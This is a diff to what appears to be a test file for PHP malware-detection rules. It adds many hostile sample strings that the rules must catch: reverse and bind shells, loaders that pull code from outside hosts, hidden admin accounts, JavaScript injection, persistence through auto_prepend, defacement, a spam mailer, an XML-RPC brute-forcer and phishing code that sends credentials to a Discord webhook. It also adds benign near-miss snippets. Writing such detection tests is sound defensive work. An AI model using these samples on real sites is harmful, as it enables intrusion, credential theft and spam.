@@ -36,6 +36,7 @@ VARIANTS: dict[str, str] = {
     "js_inject_footer_wp_option": "<?php\nglobal $wpdb;\n$js = \"<script type='text/javascript' src='https://cdn.jsdelivr-cache.com/n.js'></script>\";\n$wpdb->query(\"UPDATE {$wpdb->posts} SET post_content = CONCAT(post_content, '\" . esc_sql($js) . \"') WHERE post_status='publish'\");\nupdate_option('wp_footer_code', $js);\n",
     "js_inject_body_replace": "<?php\nforeach (glob('{*.php,*/*.php,*/*/*.php}', GLOB_BRACE) as $file) {\n    $code = file_get_contents($file);\n    if (stripos($code, '</body>') !== false && strpos($code, 'ad-hexa') === false) {\n        $code = str_ireplace('</body>', \"<script>var s=document.createElement('script');s.src='//ad-hexa.top/t.js';document.body.appendChild(s);</script></body>\", $code);\n        file_put_contents($file, $code);\n    }\n}\n",
     "deface_home_dirs": "<?php\n$users = file('/etc/passwd');\nforeach ($users as $l) {\n    $u = explode(':', $l);\n    $d = '/home/' . $u[0] . '/public_html/';\n    if (is_writable($d)) { @copy($_POST['src'], $d . 'index.php'); echo \"$d OK\\n\"; }\n}\n",
+    "revshell_fsock_proc_open": "<?php\n$ip = $_GET['ip']; $port = (int)$_GET['port'];\n$sock = fsockopen($ip, $port);\n$proc = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);\n",
     "revshell_stream_client_loop": "<?php\nset_time_limit(0);\n$s = stream_socket_client('tcp://' . $_POST['h'] . ':' . $_POST['p'], $e, $es, 30);\nfwrite($s, \"connected\\n\");\nwhile (!feof($s)) {\n    $cmd = fgets($s, 2048);\n    if (trim($cmd) == 'exit') break;\n    fwrite($s, shell_exec($cmd . ' 2>&1'));\n}\nfclose($s);\n",
     "revshell_socket_create": "<?php\n$sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_connect($sock, $_REQUEST['rh'], $_REQUEST['rp']);\nsocket_write($sock, \"shell> \");\nwhile ($c = socket_read($sock, 2048, PHP_NORMAL_READ)) {\n    $o = ''; exec(trim($c), $o);\n    socket_write($sock, implode(\"\\n\", $o) . \"\\nshell> \");\n}\n",
     "revshell_bash_dev_tcp": "<?php\nif (isset($_GET['rip'])) {\n    system(\"bash -c 'bash -i >& /dev/tcp/\" . $_GET['rip'] . \"/\" . $_GET['rport'] . \" 0>&1'\");\n}\n",
@@ -49,6 +50,24 @@ VARIANTS: dict[str, str] = {
     "ico_include_hex": '<?php\n@include "\\x2fv\\x61r\\x2fw\\x77w\\x2fh\\x74m\\x6c\\x2fw\\x70-\\x63o\\x6et\\x65n\\x74\\x2f.\\x39f\\x33a\\x31c\\x62e\\x2ei\\x63o";\n',
     "png_include_concat": "<?php\n$p = dirname(__FILE__) . '/wp-content/uploads/2019/03/' . 'thumb' . '-150x150' . '.png';\nif (file_exists($p)) { include_once $p; }\n",
     "ico_include_chr": "<?php\n@include(chr(47).chr(104).chr(111).chr(109).chr(101).'/site/public_html/favicon_5e8a1b.ico');\n",
+    "wp_reset_admin_pass": "<?php\nrequire_once dirname(__FILE__) . '/wp-load.php';\nif (!empty($_GET['np'])) {\n    wp_update_user(array('ID' => 1, 'user_pass' => $_GET['np']));\n    echo 'pass changed';\n}\n",
+    "wp_default_role_admin": "<?php\nadd_action('init', function () {\n    if (get_option('default_role') !== 'administrator') {\n        update_option('users_can_register', 1);\n        update_option('default_role', 'administrator');\n    }\n});\n",
+    "wp_wpdb_insert_user": "<?php\nglobal $wpdb;\n$wpdb->insert($wpdb->users, array('user_login' => 'sysadm', 'user_pass' => wp_hash_password('Sys@dm!n2023'), 'user_email' => 'sysadm@example.net', 'user_registered' => current_time('mysql')));\n$id = $wpdb->insert_id;\nupdate_user_meta($id, $wpdb->prefix . 'capabilities', array('administrator' => true));\nupdate_user_meta($id, $wpdb->prefix . 'user_level', 10);\n",
+    "joomla_sql_admin": "<?php\ndefine('_JEXEC', 1);\nrequire_once 'configuration.php';\n$c = new JConfig();\n$db = new mysqli($c->host, $c->user, $c->password, $c->db);\n$p = $c->dbprefix;\n$db->query(\"INSERT INTO {$p}users (name,username,email,password,block,registerDate) VALUES ('Super','jadmin','j@x.org','\" . md5('joomla123') . \"',0,NOW())\");\n$db->query(\"INSERT INTO {$p}user_usergroup_map (user_id,group_id) VALUES (\" . $db->insert_id . \",8)\");\necho 'ok';\n",
+    "loader_data_uri_include": "<?php\n$x = file_get_contents('http://cdn-static-js.net/p.b64');\ninclude 'data://text/plain;base64,' . $x;\n",
+    "loader_create_function_remote": "<?php\n$fn = create_function('', @file_get_contents('http://jquery-min.su/core.txt'));\n$fn();\n",
+    "reinfect_all_wp_configs": "<?php\nforeach (glob('/home/*/public_html/wp-config.php') as $cfg) {\n    $c = file_get_contents($cfg);\n    if (strpos($c, 'wp-cache-ico') === false) {\n        $c = str_replace('<?php', \"<?php\\n@include '/tmp/.wp-cache-ico';\", $c);\n        file_put_contents($cfg, $c);\n    }\n}\n",
+    "user_ini_prepend": "<?php\n$dir = $_SERVER['DOCUMENT_ROOT'];\nfile_put_contents($dir . '/.user.ini', \"auto_prepend_file=\" . $dir . \"/wp-content/uploads/.cache.php\\n\");\nfile_put_contents($dir . '/wp-content/uploads/.cache.php', base64_decode($_POST['b']));\n",
+    "htaccess_prepend": "<?php\n$h = fopen($_SERVER['DOCUMENT_ROOT'] . '/.htaccess', 'a');\nfwrite($h, \"\\nphp_value auto_prepend_file \\\"\" . __DIR__ . \"/.sys.php\\\"\\n\");\nfclose($h);\n",
+    "js_append_fopen_a": "<?php\n$js = \";var _0x1a2b=['\\x68\\x74\\x74\\x70'];(function(){var s=document.createElement('script');s.src='https://cdn-js.top/j.js';document.head.appendChild(s);})();\";\n$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('wp-content'));\nforeach ($it as $f) {\n    if (pathinfo($f, PATHINFO_EXTENSION) == 'js') { $h = fopen($f, 'a'); fwrite($h, $js); fclose($h); }\n}\n",
+    "deface_docroot_b64": "<?php\n$root = $_SERVER['DOCUMENT_ROOT'];\n@rename($root . '/index.php', $root . '/index.php.bak');\nfile_put_contents($root . '/index.html', base64_decode('PGgxPkhhY2tlZCBieSBaM3JvPC9oMT4='));\necho 'Defaced';\n",
+    "revshell_proc_open_bash": "<?php\n$s = fsockopen($_GET['h'], (int)$_GET['p']);\nproc_open('bash', array(0 => $s, 1 => $s, 2 => $s), $pipes);\n",
+    "bindshell_socket": "<?php\n$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_bind($s, '0.0.0.0', 31337);\nsocket_listen($s);\n$c = socket_accept($s);\nwhile (true) {\n    $in = socket_read($c, 1024);\n    $out = shell_exec($in);\n    socket_write($c, $out);\n}\n",
+    "mailer_wp_mail_post_list": "<?php\nrequire 'wp-load.php';\n$emails = array_filter(array_map('trim', explode(\"\\n\", $_POST['to'])));\nforeach ($emails as $e) {\n    wp_mail($e, stripslashes($_POST['subj']), stripslashes($_POST['html']), array('Content-Type: text/html; charset=UTF-8', 'From: ' . $_POST['from']));\n}\necho count($emails) . ' sent';\n",
+    "phish_discord_webhook": "<?php\n$msg = array('content' => \"**New login**\\nEmail: {$_POST['login']}\\nPassword: {$_POST['passwd']}\\nIP: {$_SERVER['REMOTE_ADDR']}\");\n$ch = curl_init('https://discord.com/api/webhooks/112233445566778899/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789');\ncurl_setopt($ch, CURLOPT_POST, 1);\ncurl_setopt($ch, CURLOPT_POSTFIELDS, json_encode($msg));\ncurl_setopt($ch, CURLOPT_HTTPHEADER, array('Content-Type: application/json'));\ncurl_exec($ch);\nheader('Location: https://outlook.live.com');\n",
+    "include_hidden_dot_php": "<?php\ninclude_once '/home/site/public_html/wp-content/plugins/akismet/views/.e5d9c1a0.php';\n",
+    "xmlrpc_brute": "<?php\n$target = $_POST['target'];\n$pwds = explode(\"\\n\", $_POST['passwords']);\nforeach ($pwds as $pw) {\n    $xml = \"<?xml version=\\\"1.0\\\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>{$_POST['user']}</value></param><param><value>\" . trim($pw) . \"</value></param></params></methodCall>\";\n    $ch = curl_init($target . '/xmlrpc.php');\n    curl_setopt($ch, CURLOPT_POSTFIELDS, $xml);\n    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n    if (strpos(curl_exec($ch), 'isAdmin') !== false) { echo \"FOUND: $pw\"; break; }\n}\n",
+    "phish_bank_card_and_password": "<?php\n$cliente = $_POST['cliente'];\n$cpf = $_POST['cpf'];\n$senha = $_POST['senha_internet'];\n$cartao = $_POST['num_cartao'];\n$validade = $_POST['validade'];\n$cvv = $_POST['cvv'];\ninclude 'enviar.php';\nheader('Location: aguarde.php');\n",
 }
 
 #: (rule, variant name): the rule must hit the variant in all three forms.
@@ -75,6 +94,7 @@ HITS: list[tuple[str, str]] = [
     ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "js_inject_body_replace"),
     ("SPAMGEAR_HOSTINF_CopyFromInputSource", "deface_home_dirs"),
     ("SPAMGEAR_HOSTINF_HomeDirWalker", "deface_home_dirs"),
+    ("SPAMGEAR_HOSTINF_SocketAsShellDescriptors", "revshell_fsock_proc_open"),
     ("SPAMGEAR_HOSTINF_SocketCommandLoop", "revshell_stream_client_loop"),
     ("SPAMGEAR_HOSTINF_SocketCommandLoop", "revshell_socket_create"),
     ("SPAMGEAR_HOSTINF_DevTcpShell", "revshell_bash_dev_tcp"),
@@ -88,6 +108,25 @@ HITS: list[tuple[str, str]] = [
     ("SPAMGEAR_HOSTINF_IncludeHexPath", "ico_include_hex"),
     ("SPAMGEAR_HOSTINF_IncludeIconFile", "png_include_concat"),
     ("SPAMGEAR_HOSTINF_IncludeIconFile", "ico_include_chr"),
+    ("SPAMGEAR_HOSTINF_WpAdminPasswordFromInput", "wp_reset_admin_pass"),
+    ("SPAMGEAR_HOSTINF_WpOpenAdminRegistration", "wp_default_role_admin"),
+    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "wp_wpdb_insert_user"),
+    ("SPAMGEAR_HOSTINF_WpAdminSqlInsert", "joomla_sql_admin"),
+    ("SPAMGEAR_HOSTINF_IncludeDataWrapper", "loader_data_uri_include"),
+    ("SPAMGEAR_HOSTINF_RemoteCreateFunction", "loader_create_function_remote"),
+    ("SPAMGEAR_HOSTINF_HomeDirWalker", "reinfect_all_wp_configs"),
+    ("SPAMGEAR_HOSTINF_OpenTagCodeInjector", "reinfect_all_wp_configs"),
+    ("SPAMGEAR_HOSTINF_HiddenPrependWriter", "user_ini_prepend"),
+    ("SPAMGEAR_HOSTINF_HiddenPrependWriter", "htaccess_prepend"),
+    ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "js_append_fopen_a"),
+    ("SPAMGEAR_HOSTINF_IndexSwapDeface", "deface_docroot_b64"),
+    ("SPAMGEAR_HOSTINF_SocketAsShellDescriptors", "revshell_proc_open_bash"),
+    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "bindshell_socket"),
+    ("SPAMGEAR_HOSTINF_WpMailOverPostedList", "mailer_wp_mail_post_list"),
+    ("SPAMGEAR_HOSTINF_TelegramCredentialExfil", "phish_discord_webhook"),
+    ("SPAMGEAR_HOSTINF_IncludeIconFile", "include_hidden_dot_php"),
+    ("SPAMGEAR_HOSTINF_XmlrpcBruteForcer", "xmlrpc_brute"),
+    ("SPAMGEAR_HOSTINF_CvvAndPasswordCapture", "phish_bank_card_and_password"),
 ]
 
 #: (rule, legitimate code): the rule must not hit it, as written or at the top of a plugin file.
@@ -199,6 +238,62 @@ NEAR_MISSES: list[tuple[str, str]] = [
     (
         "SPAMGEAR_HOSTINF_HtaccessLocker",
         "<?php\n$rules = \"<FilesMatch \\\"\\\\.(php|phtml|php5)$\\\">\\nDeny from all\\n</FilesMatch>\\n\";\nfile_put_contents($upload_dir . '/.htaccess', $rules);\nchmod($upload_dir . '/.htaccess', 0644);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_WpAdminPasswordFromInput",
+        "<?php\nif ( isset( $_POST['pass1'] ) && wp_verify_nonce( $_POST['_wpnonce'], 'profile' ) ) {\n\twp_update_user( array( 'ID' => get_current_user_id(), 'user_pass' => $_POST['pass1'] ) );\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_WpOpenAdminRegistration",
+        "<?php\nfunction myplugin_activate() {\n\tupdate_option( 'users_can_register', 1 );\n\tupdate_option( 'default_role', 'subscriber' );\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_IncludeDataWrapper",
+        "<?php\n$img = 'data:image/png;base64,' . base64_encode($png);\ninclude 'templates/avatar.php';\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_IncludeDataWrapper",
+        "<?php\nfunction compiled_renderer($php) {\n    return include('data://text/plain,' . urlencode($php));\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_RemoteCreateFunction",
+        "<?php\n$double = create_function('$a', 'return $a * 2;');\n$body = file_get_contents('https://api.example.org/v1/items');\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_OpenTagCodeInjector",
+        "<?php\n$c = file_get_contents($src);\n$c = str_replace('<?php', \"<?php\\n// generated by build.php, do not edit\", $c);\nfile_put_contents($dst, $c);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_HiddenPrependWriter",
+        "<?php\n$line = \"auto_prepend_file = '\" . ABSPATH . \"wordfence-waf.php'\\n\";\nfile_put_contents(ABSPATH . '.user.ini', $line, FILE_APPEND);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_IndexSwapDeface",
+        "<?php\nrename($root . '/index.php', $root . '/index.php.maint');\nfile_put_contents($root . '/index.html', $maintenance_page);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_SocketAsShellDescriptors",
+        "<?php\n$fp = fsockopen($host, 80, $errno, $errstr, 5);\nfclose($fp);\n$proc = proc_open($cmd, array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w')), $pipes);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_WpMailOverPostedList",
+        "<?php\ncheck_admin_referer( 'invite_friends' );\n$emails = explode( ',', sanitize_text_field( $_POST['emails'] ) );\nforeach ( $emails as $e ) {\n\twp_mail( trim( $e ), 'Join us', 'Your friend invited you.' );\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_WpMailOverPostedList",
+        "<?php\n$emails = explode( \",\", $_POST['emails'] );\nforeach ( $emails as $e ) {\n\twp_mail( $e, 'You are invited', $message_template );\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_XmlrpcBruteForcer",
+        "<?php\n$methods['wp.getUsersBlogs'] = 'this:wp_getUsersBlogs';\n// see xmlrpc.php for the entry point\n$resp = wp_remote_post($endpoint, array('body' => $xml));\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_CvvAndPasswordCapture",
+        "<?php\n$card = array('number' => $_POST['card_number'], 'cvc' => $_POST['card_cvc']);\n$email = sanitize_email($_POST['billing_email']);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_TelegramCredentialExfil",
+        "<?php\n$hook = get_option('discord_webhook');\nwp_remote_post('https://discord.com/api/webhooks/' . $hook, array('body' => array('content' => 'New comment by ' . $_POST['author'])));\n",
     ),
 ]
 
